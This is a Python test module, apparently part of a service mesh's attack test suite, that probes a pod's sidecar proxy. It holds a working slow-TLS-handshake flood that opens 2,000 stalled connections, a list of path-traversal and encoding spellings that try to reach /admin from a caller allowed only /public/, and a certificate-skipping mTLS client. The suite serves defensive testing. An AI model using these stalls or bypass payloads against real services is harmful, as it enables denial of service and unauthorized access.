"""What a pod, or a member of the mesh with a certificate of its own, can try against a sidecar.

    python -P -m tests.attacks.sidecar HOST:PORT [--connections 2000] [--seconds 20]

`stalled` sends whole TLS hellos and then nothing. The other functions are for callers that have a certificate: they
speak to a pod's sidecar past their own.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import re
import resource
import ssl
import time
from collections.abc import Iterable

from services.compiler.envoy_names import MESH_PROTOCOL
from tests.attacks.attack import Attack, Cost, told
from tests.attacks.scene import STRANGER, AttackScene

SPELLINGS = (
    *("/public/..%2fadmin", "/public/..%2Fadmin", "/public/..%5cadmin", "/public/%2e%2e%2fadmin"),
    *("/public%2f..%2fadmin", "/public/%2e%2e/admin", "/public/.%2e/admin", "/public/../admin"),
    *("/public//../admin/../../admin", "/public/..;/admin", "/public/..;x=1/admin", "/public/%2e%2e;x/admin"),
    *("/public/.%2E;/admin", "/public/..%3bx/admin", "/public/%252e%252e/admin", "/public/..%252fadmin"),
    *("/public/%c0%ae%c0%ae/admin", "/public/..%c0%afadmin", "/public/..\\admin", "/public\\..\\admin"),
    *("/public/%2e%2e\\admin", "/public/..%00/admin", "/public/..#/admin", "/public/..?/../admin"),
    *("/admin;/public/x", "/admin;x=/public/", "/%61dmin", "/ADMIN", "//admin", "/./admin"),
)
"""Spellings of `/admin`, or of a way there, of a caller that may read `/public/` only."""


def hello() -> bytes:
    """The first flight of a TLS client that asks for the mesh's protocol."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([MESH_PROTOCOL])
    received, sent = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(received, sent, server_hostname="any").do_handshake()
    return sent.read()


async def stalled(host: str, port: int, *, connections: int, seconds: float) -> tuple[Cost, list[float]]:
    """Begin that many handshakes and say no more; how long each was kept, and `seconds` for those still open then."""
    said = hello()
    gate = asyncio.Semaphore(64)
    began = time.monotonic()

    async def one() -> float:
        async with gate:
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(said)
        at = time.monotonic()
        try:
            async with asyncio.timeout(max(0.1, began + seconds - at)):
                with contextlib.suppress(OSError):
                    while await reader.read(65536):
                        pass
        except TimeoutError:
            return seconds
        finally:
            writer.close()
        return time.monotonic() - at

    found = await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)
    kept = [each for each in found if isinstance(each, float)]
    ended = [each for each in kept if each < seconds]
    said_of_it = f"{len(ended)} of {connections} closed, the last after {max(ended, default=0):.1f} s"
    cost = Cost(
        connections=connections,
        bytes=connections * len(said),
        seconds=time.monotonic() - began,
        said=said_of_it,
    )
    return cost, kept


async def asked(
    host: str, port: int, context: ssl.SSLContext, target: str, headers: Iterable[str] = (), *, method: str = "GET"
) -> tuple[str, str]:
    """Status and body of one request to a sidecar over mutual TLS; empty if it answers nothing."""
    try:
        reader, writer = await asyncio.open_connection(host, port, ssl=context, server_hostname="any", limit=1 << 20)
    except OSError:
        return "", ""
    try:
        lines = [f"{method} {target} HTTP/1.1", "host: any", "connection: close", *headers, "", ""]
        writer.write("\r\n".join(lines).encode("latin-1"))
        async with asyncio.timeout(10):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            length = re.search(r"(?im)^content-length: (\d+)", head)
            body = await reader.readexactly(int(length[1])) if length else b""
    except (OSError, asyncio.IncompleteReadError):
        return "", ""
    finally:
        writer.close()
    return head.split(" ")[1], body.decode("latin-1")


def trusting_nobody(chain: str, key: str) -> ssl.SSLContext:
    """A client of the mesh with these files of certificate and key, which asks nothing of the server."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([MESH_PROTOCOL])
    context.load_cert_chain(chain, key)
    return context


async def _stall(scene: AttackScene) -> Cost:
    host = await scene.address(("bookstore", "bookstore-v1"))
    return await scene.program(STRANGER, "tests.attacks.sidecar", f"{host}:14001")


ATTACKS = (Attack(name="sidecar-stalled", what="2,000 TLS hellos to a member's sidecar, then silence", run=_stall),)


def main() -> None:
    """Stall handshakes, as a program inside a pod."""
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--seconds", type=float, default=20)
    options = parser.parse_args()
    host, _, port = options.target.rpartition(":")
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    cost, _ = asyncio.run(stalled(host, int(port), connections=options.connections, seconds=options.seconds))
    told(cost)


if __name__ == "__main__":
    main()
